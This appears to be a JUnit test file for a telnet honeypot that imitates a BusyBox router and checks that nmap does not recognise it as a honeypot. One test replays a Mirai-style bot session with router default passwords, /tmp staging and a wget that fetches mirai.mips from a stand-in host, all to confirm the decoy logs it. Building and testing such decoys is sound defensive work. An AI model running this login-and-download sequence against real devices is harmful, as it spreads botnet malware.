package io.honeybee.pot.telnet;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.honeybee.pot.InvalidOptionException;
import io.honeybee.pot.PotFixture;
import io.honeybee.pot.RawClient;
import io.honeybee.pot.RealClient;
import io.honeybee.world.SystemOnChip;
import io.honeybee.world.World;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What bots that live on routers ask and look for. */
class TelnetRouterTest {
  private static final World ROUTER = PotFixture.WORLD.router();

  @TempDir Path directory;
  private PotFixture pot;

  @BeforeEach
  void start() throws Exception {
    pot = PotFixture.start(new TelnetPotType(Duration.ZERO), directory, Map.of());
  }

  @AfterEach
  void stop() {
    pot.close();
  }

  @Test
  void negotiationIsThatOfBusyBox() throws Exception {
    try (RawClient client = new RawClient(pot.port())) {
      client.awaitText("\r\r\n" + ROUTER.hostName() + " login: ");
      assertThat(client.received())
          .startsWith("\u00ff\u00fd\u0001\u00ff\u00fd\u001f\u00ff\u00fb\u0001\u00ff\u00fb\u0003");
    }
  }

  @Test
  void miraiFindsItsWayToTheLoader() throws Exception {
    try (RawClient client = new RawClient(pot.port())) {
      client.awaitText("ogin: ").send("root\r\n").awaitText("assword: ").send("xc3511\r\n");
      client.awaitText(ROUTER.userland().busyBox() + " built-in shell (ash)\r\n");
      client.awaitText("~ # ").send("enable\r\n").awaitText("-sh: enable: not found\r\n");
      client.awaitText("# ").send("system\r\n").awaitText("-sh: system: not found\r\n");
      client.awaitText("# ").send("shell\r\n").awaitText("-sh: shell: not found\r\n");
      client.awaitText("# ").send("sh\r\n").awaitText("built-in shell (ash)\r\n");
      client.awaitText("~ # ").send("/bin/busybox MIRAI\r\n");
      client.awaitText("MIRAI: applet not found\r\n").awaitText("# ");
      client.send("/bin/busybox ps; /bin/busybox ECCHI\r\n");
      client.awaitText("  PID USER       VSZ STAT COMMAND\r\n").awaitText("init\r\n");
      client.awaitText("ECCHI: applet not found\r\n").awaitText("# ");
      client.send("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI\r\n");
      client.awaitText("tmpfs /tmp tmpfs rw").awaitText("ECCHI: applet not found\r\n");
      client.send(
          "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon;"
              + " /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon\r\n");
      client.awaitText("\nkami/tmp\r\n").awaitText("# ");
      client.send("cd /tmp/; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper;");
      client.send(" /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI\r\n");
      client.awaitText("\nECCHI: applet not found\r\n").awaitText("/tmp # ");
      client.send("/bin/busybox cat /bin/echo\r\n").awaitText("\u007fELF\u0001");
      client.awaitText("/tmp # ").send("/bin/busybox wget; /bin/busybox tftp;");
      client.send(" /bin/busybox ECCHI\r\n");
      client.awaitText("Usage: wget").awaitText("Usage: tftp").awaitText("ECCHI: applet not");
      client.send("/bin/busybox wget http://198.51.100.7:80/bins/mirai.mips -O - > dvrHelper;");
      client.send(" /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI\r\n");
      client.awaitText("can't connect to remote host (198.51.100.7)");
      client.awaitText("ECCHI: applet not found\r\n");
      // One exit leaves the shell within the shell, the next one the router.
      client.awaitText("# ").send("exit\r\n").awaitText("~ # ").send("exit\r\n").awaitEnd();
    }
    // The file that it tries out places with is told of as well, before the one it asks for.
    assertThat(pot.await("telnet.session.file_download", 2))
        .extracting(o -> o.data().get("destfile") + " " + o.data().get("url"))
        .startsWith("/tmp/.nippon null", "- http://198.51.100.7:80/bins/mirai.mips");
    assertThat(pot.seen("telnet.command.input"))
        .extracting(o -> o.data().get("input"))
        .startsWith("enable", "system", "shell", "sh", "/bin/busybox MIRAI")
        .endsWith("exit", "exit");
  }

  @Test
  void machineCodeAndProcessorAgree() throws Exception {
    SystemOnChip chip = SystemOnChip.of(ROUTER);
    try (RawClient client = new RawClient(pot.port())) {
      client.awaitText("ogin: ").send("root\r\n").awaitText("assword: ").send("vizxv\r\n");
      client.awaitText("# ").send("dd if=/bin/echo bs=20 count=1 2>/dev/null | hexdump -C\r\n");
      int machine = chip.instructions().machine();
      String order = chip.instructions().bigEndian() ? "02 01 00" : "01 01 00";
      client.awaitText("7f 45 4c 46 01 " + order);
      client.awaitText(
          chip.instructions().bigEndian()
              ? "00 02 00 %02x".formatted(machine)
              : "02 00 %02x 00".formatted(machine));
      client.awaitText("# ").send("cat /proc/cpuinfo\r\n").awaitText(chip.cpuModel());
    }
  }

  @Test
  void nmapTakesItForBusyBox() throws Exception {
    RealClient client =
        RealClient.run(
            "",
            "nmap",
            "--version-intensity",
            "0",
            "-Pn",
            "-n",
            "-sV",
            "-p",
            "" + pot.port(),
            "127.0.0.1");
    assertThat(client.output()).containsPattern("open +telnet +BusyBox telnetd");
    assertThat(client.output()).doesNotContainIgnoringCase("honeypot");
    assertThat(client.output()).doesNotContainIgnoringCase("cowrie");
  }

  @Test
  void shellsWithinShellsWithoutEndDoNoHarm() throws Exception {
    try (RawClient client = new RawClient(pot.port())) {
      client.awaitText("ogin: ").send("root\r\n").awaitText("assword: ").send("root\r\n");
      client.awaitText("# ").send("sh\r\n".repeat(200)).send("echo st''ill here\r\n");
      client.awaitText("still here\r\n");
    }
  }

  @Test
  void anUnknownPersonalityIsRefusedWithTheKnownOnes() {
    assertThatThrownBy(
            () ->
                PotFixture.start(
                    new TelnetPotType(Duration.ZERO), directory, Map.of("personality", "vax")))
        .isInstanceOf(InvalidOptionException.class)
        .hasMessageContaining("busybox-router, debian");
  }
}
